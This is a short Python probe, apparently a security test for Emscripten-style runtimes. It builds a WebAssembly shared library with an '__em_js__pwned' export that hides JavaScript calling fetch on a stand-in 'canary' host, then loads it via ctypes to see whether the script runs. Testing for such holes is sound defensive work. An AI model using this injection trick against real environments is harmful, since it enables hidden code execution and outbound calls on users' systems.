# Tries a handmade shared library whose exports carry JavaScript, as EM_JS does.
# Sees: loaded: 
import ctypes

TEXT = b"(void)<::>{fetch('http://canary/code/library_with_scripts')}\0"


def number(value):
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def name(text):
    return number(len(text)) + text


def section(kind, body):
    return bytes([kind]) + number(len(body)) + body


def library():
    memory_info = number(len(TEXT)) + number(0) + number(0) + number(0)
    dylink = name(b"dylink.0") + bytes([1]) + number(len(memory_info)) + memory_info
    imports = number(2) + name(b"env") + name(b"memory") + bytes([2, 0, 1]) + name(b"env") + name(b"__memory_base") + bytes([3, 0x7F, 0])
    globals_ = number(1) + bytes([0x7F, 0, 0x41, 0, 0x0B])
    exports = number(1) + name(b"__em_js__pwned") + bytes([3, 1])
    data = number(1) + bytes([0, 0x23, 0, 0x0B]) + number(len(TEXT)) + TEXT
    sections = section(0, dylink) + section(2, imports) + section(6, globals_) + section(7, exports) + section(11, data)
    return b"\0asm\1\0\0\0" + sections


def rule(event):
    with open("/tmp/pwned.so", "wb") as file:
        file.write(library())
    try:
        print("loaded:", ctypes.CDLL("/tmp/pwned.so"))
    except BaseException as error:
        print(f"loaded: {type(error).__name__}: {error}"[:300])
    return False
